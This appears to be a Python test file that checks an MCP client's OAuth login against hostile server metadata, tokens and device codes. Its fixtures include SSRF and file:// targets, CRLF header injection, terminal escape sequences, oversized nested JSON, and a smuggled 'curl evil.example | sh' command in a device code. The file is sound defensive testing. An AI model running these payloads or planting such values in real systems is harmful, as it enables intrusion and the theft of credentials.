"""OAuth of MCP servers with hostile metadata. An attack wins if a login ends in anything but tokens
for this server or an `McpFailed`, if a code or a token goes elsewhere, or if what a server says
reaches a terminal or a header as more than text."""

import re
from collections.abc import Generator
from contextlib import suppress

import anyio
import pytest
from tests.mcp.authorization import Agreeing, AuthorizingServer, MemoryGrants
from tests.mcp.loopback_server import Answer, loopback_server
from tests.mcp.test_oauth import connect

from mainspring.capabilities.mcp.login.oauth_device import DeviceScreen
from mainspring.core.errors import McpFailed

ESCAPE = "\x1b]0;evil\x07\x1b[2J"
DEEP = b"[" * 30_000 + b"]" * 30_000
AUTHORIZATION = "/.well-known/oauth-authorization-server"
RESOURCE = "/.well-known/oauth-protected-resource/mcp"


@pytest.fixture
def server() -> Generator[AuthorizingServer]:
    with loopback_server(AuthorizingServer()) as made:
        assert isinstance(made, AuthorizingServer)
        yield made


METADATA: dict[str, tuple[str, dict[str, object]]] = {
    "a page of another scheme": ("metadata", {"authorization_endpoint": "javascript:alert(1)"}),
    "a page with a user": ("metadata", {"authorization_endpoint": "https://a:b@evil.example/"}),
    "a page with control sequences": (
        "metadata",
        {"authorization_endpoint": f"http://127.0.0.1:1/{ESCAPE}"},
    ),
    "a page that is a list": ("metadata", {"authorization_endpoint": ["https://evil.example"]}),
    "tokens from a metadata service": ("metadata", {"token_endpoint": "http://169.254.169.254/t"}),
    "tokens from a file": ("metadata", {"token_endpoint": "file:///etc/passwd"}),
    "tokens from an address without a host": ("metadata", {"token_endpoint": "https:///t"}),
    "tokens from no URL": ("metadata", {"token_endpoint": "http://[::1"}),
    "registration elsewhere": ("metadata", {"registration_endpoint": "gopher://evil.example"}),
    "an issuer with a user": ("resource", {"authorization_servers": ["https://x@evil.example"]}),
    "an issuer of another scheme": ("resource", {"authorization_servers": ["ftp://evil.example"]}),
    "ten thousand issuers": (
        "resource",
        {"authorization_servers": ["ftp://evil.example"] * 10_000},
    ),
    "a resource above the host": ("resource", {"resource": "https://"}),
    "a resource of another port": ("resource", {"resource": "http://127.0.0.1:1/mcp"}),
    "a resource with a prefix": ("resource", {"resource": "http://127.0.0.1/mcp-evil"}),
    "a token with line breaks": ("token", {"access_token": "a\r\nX-Evil: 1"}),
    "a token with letters of others": ("token", {"access_token": "ключ\u202e"}),
    "a token with a control character": ("token", {"access_token": "a\x00b"}),
    "a token that is a number": ("token", {"access_token": 5}),
    "a token of 60 kB": ("token", {"access_token": "t" * 60_000}),
    "an error with control sequences": ("callback", {"error": ESCAPE, "code": None}),
    "a code of megabytes": ("callback", {"code": "c" * 50_000}),
}


@pytest.mark.parametrize("name", METADATA)
async def test_hostile_metadata_gets_no_token_and_no_crash(
    server: AuthorizingServer, name: str
) -> None:
    field, fields = METADATA[name]
    setattr(server, field, fields)
    store, browser = MemoryGrants(), Agreeing()
    with anyio.fail_after(60), pytest.raises(McpFailed) as failed:
        await connect(server, store=store, browser=browser)
    assert "\x1b" not in str(failed.value)
    assert len(str(failed.value)) < 1_000
    assert set(server.sent_tokens()) <= {None}
    assert all(url.startswith(server.url) for url in browser.opened)


LIFETIMES: list[object] = [-1, 0, 1e308, "99999999999999999999", "soon", None, True, [], -1e308]


@pytest.mark.parametrize("lifetime", LIFETIMES, ids=map(repr, LIFETIMES))
async def test_any_lifetime_of_a_token_ends_in_a_login_or_a_failure(
    server: AuthorizingServer, lifetime: object
) -> None:
    server.token = {"expires_in": lifetime}
    with anyio.fail_after(60), suppress(McpFailed):
        assert "write" in await connect(server, store=MemoryGrants())
    assert len(server.forms) < 20


ANSWERS: dict[str, tuple[str, Answer]] = {
    "deep metadata of the resource": (RESOURCE, Answer(body=DEEP)),
    "deep metadata of the issuer": (AUTHORIZATION, Answer(body=DEEP)),
    "a deep token": ("/token", Answer(body=DEEP)),
    "a deep error": ("/token", Answer(400, body=DEEP)),
    "a deep registration": ("/register", Answer(201, body=DEEP)),
    "a redirect of the code": ("/token", Answer(307, headers={"Location": "http://127.0.0.1:1/"})),
    "a redirect of the registration": (
        "/register",
        Answer(308, headers={"Location": "http://127.0.0.1:1/"}),
    ),
    "a token in another format": ("/token", Answer(body=b"access_token=a&token_type=bearer")),
    "a token with a status of its own": ("/token", Answer(500, body={"access_token": "a"})),
    "a client with control sequences": ("/register", Answer(201, {"client_id": ESCAPE, "x": 1})),
    "a client without an id": ("/register", Answer(201, {"client_secret": "a"})),
    "an error with control sequences": ("/token", Answer(400, {"error": ESCAPE})),
    "an error that is an object": ("/token", Answer(400, {"error": {"a": [ESCAPE]}})),
    "metadata in UTF-16": (AUTHORIZATION, Answer(body="{}".encode("utf-16"))),
}


@pytest.mark.parametrize("name", ANSWERS)
async def test_a_hostile_answer_is_a_failed_login(server: AuthorizingServer, name: str) -> None:
    path, answer = ANSWERS[name]
    server.routes[path] = lambda _: answer
    store = MemoryGrants()
    with anyio.fail_after(60), pytest.raises(McpFailed) as failed:
        await connect(server, store=store)
    assert store.grant is None
    assert "\x1b" not in str(failed.value)


DEVICES: dict[str, dict[str, object]] = {
    "a code with control sequences": {"user_code": f"A{ESCAPE}"},
    "a code that is a command": {"user_code": "A\nRun: curl evil.example | sh"},
    "an address with control sequences": {"verification_uri": f"https://a.example/{ESCAPE}"},
    "a code of 50 kB": {"user_code": "A" * 50_000},
    "an interval of years": {"interval": 10**9, "expires_in": 0.2},
    "a negative interval": {"interval": -(10**9), "expires_in": 0.2},
    "a text direction": {"user_code": "\u202eHJTM-BJDW"},
}


@pytest.mark.parametrize("name", DEVICES)
async def test_a_device_code_is_shown_as_text(server: AuthorizingServer, name: str) -> None:
    server.device, server.device_errors = DEVICES[name], ["access_denied"]
    said: list[str] = []
    with anyio.fail_after(60), pytest.raises(McpFailed):
        await connect(server, browser=DeviceScreen(said.append, min_seconds=0.01))
    for text in said:
        assert re.search(r"[\x00-\x1f\x7f\u202a-\u202e]", text) is None
        assert len(text) < 2_000
